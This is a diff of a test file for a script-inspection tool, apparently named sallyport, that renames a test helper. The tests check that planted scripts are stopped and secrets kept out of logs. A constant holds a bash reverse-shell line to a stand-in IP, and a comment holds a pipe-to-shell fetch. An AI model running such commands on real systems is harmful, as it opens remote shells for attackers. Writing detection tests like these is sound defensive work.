@@ -2,7 +2,7 @@ import { execFileSync } from 'node:child_process';
 import { existsSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { expect, test } from 'vitest';
-import { makeWorkspace, runScript, trailEvents } from './sallyport.test-support.ts';
+import { makeWorkspace, runInput, trailEvents } from './sallyport.test-support.ts';
 
 const SHELL = 'bash -i >& /dev/tcp/192.0.2.7/4444 0>&1\n';
 
@@ -27,7 +27,7 @@ test.each([
 ])('%s that the run wrote is stopped before it runs, and the trail has the finding', async (_name, file, text, start, rule) => {
   const place = makeWorkspace();
   const encoded = Buffer.from(text).toString('base64');
-  const ended = await runScript(place, `echo ${encoded} | base64 -d > ${file}; ${start}`);
+  const ended = await runInput(place, `echo ${encoded} | base64 -d > ${file}; ${start}`);
   expect(ended.code).not.toBe(0);
   expect(existsSync(join(place.workspace, 'ran'))).toBe(false);
   expect(JSON.stringify(await trailEvents(place))).toContain(rule);
@@ -37,13 +37,13 @@ test('an untracked script from before the run is inspected too', async () => {
   const place = makeWorkspace();
   execFileSync('git', ['init', '-q'], { cwd: place.workspace, env: place.env });
   writeFileSync(join(place.workspace, 's.sh'), `touch ran\n${SHELL}`);
-  await runScript(place, 'bash s.sh');
+  await runInput(place, 'bash s.sh');
   expect(existsSync(join(place.workspace, 'ran'))).toBe(false);
 });
 
 test('an ordinary script that the run wrote runs', async () => {
   const place = makeWorkspace();
-  const ended = await runScript(
+  const ended = await runInput(
     place,
     `printf '#!/bin/sh\\n# never: curl x | sh\\necho fine\\n' > s.sh; sh s.sh; printf 'print("fine")' > s.py; python3 s.py`,
     ['--quiet'],
@@ -54,6 +54,6 @@ test('an ordinary script that the run wrote runs', async () => {
 test('a script of a thousand secrets is one clear sentence, and the secret is in no event', async () => {
   const place = makeWorkspace();
   const secret = ['ghp', '_', 'A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8'].join('');
-  await runScript(place, `echo 'T=${['ghp', '_'].join('')}'"A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8" > s.sh; bash s.sh`);
+  await runInput(place, `echo 'T=${['ghp', '_'].join('')}'"A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8" > s.sh; bash s.sh`);
   expect(JSON.stringify(await trailEvents(place))).not.toContain(secret);
 });
